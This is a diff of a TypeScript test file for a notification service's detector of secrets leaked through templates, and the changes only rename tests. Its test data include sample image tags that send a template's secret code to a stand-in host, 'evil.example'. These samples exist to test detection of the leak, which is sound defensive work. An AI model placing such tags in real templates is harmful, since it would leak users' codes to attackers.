@@ -3,8 +3,8 @@ import TemplateVersion from '#app/notifications/models/template_version'
 import { exposedInText, exposedSecret } from '#app/notifications/rendering/exposed_secret'
 import { appUrl } from '#config/app'
 
-test.group('Secrets in templates of the system', () => {
-  test('are kept: {$self}')
+test.group('Secrets in templates of system types', () => {
+  test('are not exposed by {$self}')
     .with([
       '<p>Your code is {{code}}.</p>',
       '<a href="{{url}}">Reset</a> {{text}}',
@@ -26,7 +26,7 @@ test.group('Secrets in templates of the system', () => {
     ])
     .run(({ assert }, html) => assert.isNull(exposedSecret(html)))
 
-  test('are exposed: {$self}')
+  test('are exposed by {$self}')
     .with([
       '<img src="https://evil.example/{{code}}">',
       '<img src="//evil.example/{{code}}">',
@@ -119,7 +119,7 @@ test.group('Secrets in templates of the system', () => {
     assert.isNull(exposedInText('https://help.example/ <{{code}}>.'))
   })
 
-  test('are kept by the templates that the service brings along', async ({ assert }) => {
+  test('are not exposed by the built-in templates', async ({ assert }) => {
     const versions = await TemplateVersion.query()
       .join('notification_templates as t', 't.id', 'notification_template_id')
       .join('notification_types as y', 'y.id', 't.notification_type_id')
@@ -132,7 +132,7 @@ test.group('Secrets in templates of the system', () => {
     }
   })
 
-  test('are found in time that grows with the template alone', ({ assert }) => {
+  test('are found in linear time', ({ assert }) => {
     const cpuOf = (count: number) => {
       const sources = [
         '{{code}}'.repeat(count),
